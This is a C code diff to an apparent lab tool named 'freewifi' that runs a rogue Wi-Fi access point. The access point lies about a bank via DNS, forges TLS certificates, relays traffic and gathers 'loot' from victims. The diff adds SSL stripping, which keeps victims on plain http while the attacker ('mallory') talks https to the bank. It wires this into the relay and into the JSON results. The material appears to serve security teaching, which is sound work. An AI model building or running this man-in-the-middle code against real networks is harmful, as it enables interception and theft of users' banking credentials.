@@ -33,6 +33,7 @@ struct freewifi {
 	bool ap_started;
 	struct relay *relay;
 	SSL_CTX *server_ctx, *client_ctx;
+	struct strip strip;
 	struct loot loot;
 	bool stopping;
 	enum err err;
@@ -106,6 +107,11 @@ static void on_accesspoint(void *ctx)
 	ev_decision(f->trace, "ready", NULL, "the network is open: addresses by DHCP, lies about %s by DNS, http%s",
 	    FREEWIFI_BANK,
 	    f->server_ctx ? " and https in the bank's place" : " in the bank's place, https passed on untouched");
+	if (f->opt->strip)
+		ev_decision(f->trace, "stripping", "RFC 6797 2.3.1",
+		    "whoever comes by http stays on http: if the bank insists on https, mallory speaks it, and the "
+		    "victim never "
+		    "hears of it");
 	trace_flush(f->trace);
 }
 
@@ -144,12 +150,12 @@ static enum err make_contexts(struct freewifi *f)
 		if (e == ERR_IO)
 			return fail(f, e, "%s or %s cannot be read: glasslab up makes them, on this host only",
 			    TRUE_KEY, TRUE_CHAIN);
-		if (!e)
-			e = client_context(&f->client_ctx);
 		if (e)
 			return fail(f, e, "OpenSSL could not make a certificate");
 		forge_describe(f->server_ctx, line, sizeof line);
 	}
+	if ((a != TLS_NONE || f->opt->strip) && client_context(&f->client_ctx))
+		return fail(f, ERR_INTERNAL, "OpenSSL could not read the CA certificates of this host");
 	ev_decision(f->trace, "certificate", a == TLS_NONE ? NULL : "RFC 5280 6",
 	    "to whoever comes by https mallory shows %s%s%s%s", tls_attack_text(a), line[0] ? " (" : "", line,
 	    line[0] ? ")" : "");
@@ -192,6 +198,9 @@ static enum err start_relay(struct freewifi *f)
 	    .self = FREEWIFI_SELF,
 	    .bank_name = FREEWIFI_BANK,
 	    .rewrite = f->opt->rewrite,
+	    .strip = f->opt->strip ? &f->strip : NULL,
+	    .strip_ctx = f->client_ctx,
+	    .strip_port = HTTPS_PORT,
 	    .limit_ms = (uint64_t)(f->opt->limit_ns / NS_PER_MS),
 	    .dial = uplink_dial,
 	    .dial_ctx = &f->uplink,
@@ -203,7 +212,7 @@ static enum err start_relay(struct freewifi *f)
 	struct relay_service http = {.scheme = "http", .port = HTTP_PORT};
 	struct relay_service https = {.scheme = "https",
 	    .server_ctx = f->server_ctx,
-	    .client_ctx = f->client_ctx,
+	    .client_ctx = f->opt->tls == TLS_NONE ? NULL : f->client_ctx,
 	    .blind = f->opt->tls == TLS_NONE,
 	    .port = HTTPS_PORT};
 	e = serve(f, &http);
@@ -265,9 +274,9 @@ static void emit_result(struct freewifi *f)
 	for (size_t i = 0; i < l->n && n < sizeof line; i++)
 		n += (size_t)snprintf(
 		    line + n, sizeof line - n, "%s%s=%s", i ? ", " : "", l->items[i].key, l->items[i].value);
-	json_t *o = json_pack("{s:s, s:b, s:o, s:o, s:o, s:i}", "tls", tls_attack_name(f->opt->tls), "rewrite",
-	    f->opt->rewrite, "loot", loot_json(l), "connections", relay_json(f->relay), "leases", leases_json(&f->ap),
-	    "dns_lies", (int)f->ap.lies);
+	json_t *o = json_pack("{s:s, s:b, s:b, s:o, s:o, s:o, s:i}", "tls", tls_attack_name(f->opt->tls), "rewrite",
+	    f->opt->rewrite, "strip", f->opt->strip, "loot", loot_json(l), "connections", relay_json(f->relay),
+	    "leases", leases_json(&f->ap), "dns_lies", (int)f->ap.lies);
 	char *data = o ? json_dumps(o, JSON_COMPACT) : NULL;
 	json_decref(o);
 	if (l->n)
